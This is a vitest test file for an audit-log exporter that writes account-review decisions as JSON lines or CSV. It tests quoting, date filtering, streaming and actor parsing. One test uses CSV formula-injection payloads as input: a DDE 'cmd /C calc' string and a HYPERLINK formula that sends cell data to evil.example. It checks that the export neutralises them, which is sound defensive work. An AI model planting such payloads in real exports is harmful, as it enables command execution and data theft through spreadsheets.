import type { Database } from "better-sqlite3";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, exportAudit, parseActor } from "../../src/audit/export-audit.js";
import { appendAudit } from "../../src/store/audit-log.js";
import { createSqliteStore } from "../../src/store/create-sqlite-store.js";
import { openDatabase } from "../../src/store/open-database.js";
import { tempDbPath } from "../helpers/temp-db.js";
import { ACCOUNT_ID, addAccount, decide, OWNER, seededDb, USER_NAME } from "./seed-audit.js";

async function collect(
  run: (write: (chunk: string) => void) => Promise<unknown>,
): Promise<{ text: string; chunks: string[] }> {
  const chunks: string[] = [];
  await run((chunk) => chunks.push(chunk));
  return { text: chunks.join(""), chunks };
}

const auditOf = (db: Database) => createSqliteStore(db).audit;

/** A strict RFC 4180 parser: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === "") {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error("unterminated quoted field");
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        field += text[i];
        i += 1;
      }
      if (i < text.length && text[i] !== "," && text[i] !== "\r") {
        throw new Error(`text after a closing quote at ${i}`);
      }
      continue;
    }
    if (text[i] === ",") {
      record.push(field);
      field = "";
      i += 1;
    } else if (text[i] === "\r" && text[i + 1] === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
      i += 2;
    } else if (text[i] === "\n" || text[i] === "\r" || text[i] === '"') {
      throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
    } else {
      field += text[i];
      i += 1;
    }
  }
  if (field !== "" || record.length > 0) throw new Error("last record is not CRLF-terminated");
  return records;
}

function csvObjects(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual([...CSV_COLUMNS]);
  return rows.map((row) => {
    expect(row).toHaveLength(CSV_COLUMNS.length);
    return Object.fromEntries(CSV_COLUMNS.map((column, i) => [column, row[i] as string]));
  });
}

describe("exportAudit as JSON lines", () => {
  it("writes one object per line with what an auditor needs", async () => {
    const db = seededDb();
    const { text } = await collect(async (write) =>
      expect(await exportAudit(auditOf(db), { format: "json" }, write)).toEqual({ decisions: 2, entries: 5 }),
    );
    expect(text.endsWith("\n")).toBe(true);
    const lines = text.trimEnd().split("\n");
    expect(lines).toHaveLength(7);
    const records = lines.map((line) => JSON.parse(line));
    expect(records.map((r) => r.type)).toEqual([
      "decision",
      "decision",
      "audit",
      "audit",
      "audit",
      "audit",
      "audit",
    ]);

    const [disable, keep] = records;
    expect(disable).toMatchObject({
      type: "decision",
      at: "2026-11-10T09:00:00.000Z",
      action: "disable",
      outcome: "applied",
      mode: "apply",
      actorPlatform: "slack",
      actorId: "U0ANN",
      actorEmail: OWNER,
      subject: `servicenow:${ACCOUNT_ID}`,
      userName: USER_NAME,
      before: { active: true, lockedOut: false, webServiceAccessOnly: false },
      after: { active: false, lockedOut: true, webServiceAccessOnly: false },
      error: null,
    });
    expect(keep).toMatchObject({
      action: "keep",
      reason: 'Needed by "payroll", until Q1;\nsee ticket CHG0042',
      expiresAt: "2027-02-23T15:30:00.000Z",
      before: null,
    });

    const refused = records.find((r) => r.event === "decision.refused");
    expect(refused).toMatchObject({
      type: "audit",
      outcome: "refused",
      actor: "teams:29:1xYz <mallory@acme.example>",
      actorPlatform: "teams",
      actorId: "29:1xYz",
      actorEmail: "mallory@acme.example",
      subject: `servicenow:${ACCOUNT_ID}`,
      userName: USER_NAME,
      action: "disable",
      detail: { reason: "not the owner or an admin", ownerEmail: OWNER },
    });
    expect(refused.hash).toMatch(/^[0-9a-f]{64}$/);

    const scan = records.find((r) => r.event === "scan.succeeded");
    expect(scan).toMatchObject({ actorId: "warden", actorPlatform: null, subject: "scan:1", userName: null });
    // Every line of a kind has the same keys, so tools like jq see no missing fields.
    expect(Object.keys(disable)).toEqual(Object.keys(keep));
  });

  it("keeps only what happened at or after since", async () => {
    const db = seededDb();
    const { text } = await collect((write) =>
      exportAudit(auditOf(db), { format: "json", since: new Date("2026-11-12T10:00:00Z") }, write),
    );
    const records = text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(records.map((r) => `${r.type}:${r.action ?? r.event}`)).toEqual([
      "decision:keep",
      "audit:disable",
      "audit:keep",
    ]);
    expect(records.every((r) => r.at >= "2026-11-12T10:00:00.000Z")).toBe(true);
  });

  it("exports an empty database as nothing, and a CSV as its header alone", async () => {
    const db = openDatabase(tempDbPath());
    expect((await collect((write) => exportAudit(auditOf(db), { format: "json" }, write))).chunks).toEqual(
      [],
    );
    expect((await collect((write) => exportAudit(auditOf(db), { format: "csv" }, write))).text).toBe(
      `${CSV_COLUMNS.join(",")}\r\n`,
    );
  });
});

describe("exportAudit as CSV", () => {
  it("round-trips commas, quotes and line breaks through an RFC 4180 parser", async () => {
    const db = seededDb();
    const rows = csvObjects(
      (await collect((write) => exportAudit(auditOf(db), { format: "csv" }, write))).text,
    );
    expect(rows).toHaveLength(7);

    const keep = rows.find((r) => r.type === "decision" && r.action === "keep");
    expect(keep).toMatchObject({
      event_or_action: "keep",
      actor_platform: "slack",
      actor_id: "U0ANN",
      actor_email: OWNER,
      subject: `servicenow:${ACCOUNT_ID}`,
      user_name: USER_NAME,
      outcome: "applied",
      reason: 'Needed by "payroll", until Q1;\nsee ticket CHG0042',
      before: "",
    });
    const disable = rows.find((r) => r.type === "decision" && r.action === "disable");
    expect(JSON.parse(disable?.before ?? "")).toEqual({
      active: true,
      lockedOut: false,
      webServiceAccessOnly: false,
    });
    expect(JSON.parse(disable?.after ?? "")).toMatchObject({ active: false, lockedOut: true });

    const refused = rows.find((r) => r.event_or_action === "decision.refused");
    expect(refused).toMatchObject({
      type: "audit",
      actor_platform: "teams",
      actor_id: "29:1xYz",
      actor_email: "mallory@acme.example",
      user_name: USER_NAME,
      action: "disable",
      outcome: "refused",
      reason: "not the owner or an admin",
    });
    expect(JSON.parse(refused?.detail ?? "")).toMatchObject({ ownerEmail: OWNER });
  });

  it("neutralises cells a spreadsheet would run as formulas", async () => {
    const db = openDatabase(tempDbPath());
    addAccount(db, "f00d", "@SUM(1+1)*cmd|' /C calc'!A0");
    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    decide(db, {
      at: new Date("2026-11-20T12:00:00Z"),
      action: "keep",
      reason: hostile,
      actorId: "+U1",
      actorEmail: "-x@acme.example",
      accountId: "f00d",
    });
    appendAudit(db, {
      at: new Date("2026-11-20T12:01:00Z"),
      event: "decision.failed",
      actor: "warden",
      subject: "servicenow:f00d",
      detail: { action: "disable", error: "\t=1+1", reason: "-2+3" },
    });
    const { text } = await collect((write) => exportAudit(auditOf(db), { format: "csv" }, write));
    const rows = csvObjects(text);
    const decision = rows.find((r) => r.type === "decision");
    expect(decision).toMatchObject({
      reason: `'${hostile}`,
      actor_id: "'+U1",
      actor_email: "'-x@acme.example",
      user_name: "'@SUM(1+1)*cmd|' /C calc'!A0",
    });
    const failed = rows.find((r) => r.event_or_action === "decision.failed");
    expect(failed).toMatchObject({ error: "'\t=1+1", reason: "'-2+3" });
    // No cell of the whole file starts with a formula character.
    for (const row of parseCsv(text)) {
      for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe("exportAudit on a large log", () => {
  it("streams 20,000 entries in many bounded chunks", async () => {
    const db = openDatabase(tempDbPath());
    addAccount(db, ACCOUNT_ID, USER_NAME);
    const start = Date.parse("2026-01-01T00:00:00Z");
    db.transaction(() => {
      for (let i = 0; i < 20_000; i++) {
        appendAudit(db, {
          at: new Date(start + i * 60_000),
          event: "message.sent",
          actor: "warden",
          subject: `servicenow:${ACCOUNT_ID}`,
          detail: { outboxId: i, kind: "owner", platform: "slack" },
        });
      }
    })();
    for (const format of ["json", "csv"] as const) {
      const { chunks, text } = await collect((write) => exportAudit(auditOf(db), { format }, write));
      expect(chunks.length, format).toBeGreaterThan(40);
      expect(Math.max(...chunks.map((c) => c.length)), format).toBeLessThan(70 * 1024);
      const lines = text.split(format === "csv" ? "\r\n" : "\n").filter((l) => l !== "");
      expect(lines, format).toHaveLength(format === "csv" ? 20_001 : 20_000);
    }
  });
});

describe("parseActor", () => {
  it("splits chat actors on the first colon only, and keeps bare names whole", async () => {
    expect(parseActor("slack:U123 <ann@acme.example>")).toEqual({
      platform: "slack",
      id: "U123",
      email: "ann@acme.example",
    });
    expect(parseActor("teams:29:1abc")).toEqual({ platform: "teams", id: "29:1abc", email: null });
    expect(parseActor("warden")).toEqual({ platform: null, id: "warden", email: null });
    expect(parseActor(null)).toEqual({ platform: null, id: null, email: null });
  });
});
